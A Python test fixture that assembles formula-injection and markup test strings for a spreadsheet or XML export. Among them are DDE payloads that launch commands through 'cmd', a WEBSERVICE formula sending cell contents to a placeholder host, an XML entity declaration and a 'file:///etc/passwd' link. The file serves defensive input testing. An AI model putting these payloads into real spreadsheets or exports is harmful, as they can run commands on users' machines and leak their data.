"""Texts that a spreadsheet, a reader of XML or a shell might take for more than text."""

from __future__ import annotations

from tests.corpus import some

LEADS = ("", " ", "  ", "\t", "\r", "\n", "\r\n ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "'", "''", '"')
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1",
    '=HYPERLINK("https://voorbeeld.nl","klik hier")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"!A0")', '=IMPORTXML("http://voorbeeld.nl","//a")',
    '=WEBSERVICE("http://voorbeeld.nl/?x="&A1)', '=IMAGE("http://voorbeeld.nl/x.png")', "=A1", "=-1", "==1", "{=1+1}",
    "=EXEC(1)", "=MSEXCEL|'\\..\\x.exe'!A1", "-2+3+cmd|' /C calc'!D2", "of:=1+1", "=1;=2", '=1,"=2"', "=CALL(1)",
)  # fmt: skip
MARKUP = (
    "]]>", "<![CDATA[=1+1]]>", "<r><t>vet</t></r>", "<r></r>", "<r><t>&lt;</t></r>", "<r>x</r>\n", "</t></si>",
    "<f>1+1</f>",
    "<c><f>1+1</f><v>2</v></c>", "&#61;1+1", "&equals;1", "_x003D_1+1", "_x000D_", "_x005F_x000D_",
    "<r>_x000D_x000D_x000D_</r>", "<r>_x000D_</r>", "_x000D_x0041", "x_x0041_y_x0042_", "_xD800_", "_x0_",
    "<!-- weg -->", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "&a;", "<text:a>x</text:a>",
    "https://voorbeeld.nl", "internal:Blad1!A1", "external:c:\\x.xlsx", "mailto:a@voorbeeld.nl",
    "file:///etc/passwd",
    "ftp://voorbeeld.nl", "1", "1e9", "1-2", "1/2/2027", "2027-01-14", "00123", "TRUE", "WAAR", "#REF!", "1;2",
    "a;b\nc",
    'a";"=1+1', 'a,"=1+1"', '"', '""', ";", "\n\n=1", "a\n=1+1\nb", "a\r\n=1", "x\u2028=1", "\x00=1+1",
    "\x1f=1", "\x7f-1",
    "\ud800=1", "=\udfff", "\ufffe=1", "\uffff", "\u202e=1+1", "\u2066=1\u2069", "a\u202eb", "\x0b=1", "\x85=1",
    "  voor", "achter  ", "drie   blanks", "\ttab\tin\t", "🎉=1", "&", "<", ">", "'", "'s avonds", "{title}",
    "%s", "\\n",
)  # fmt: skip

HOSTILE = list(
    dict.fromkeys(
        [*(lead + formula for lead in LEADS for formula in FORMULAS), *MARKUP, *some()[:60], "=" + "w" * 40_000]
    )
)
"""Each once; none is left out for what cannot get in at the entrance, since a report may come from an import."""
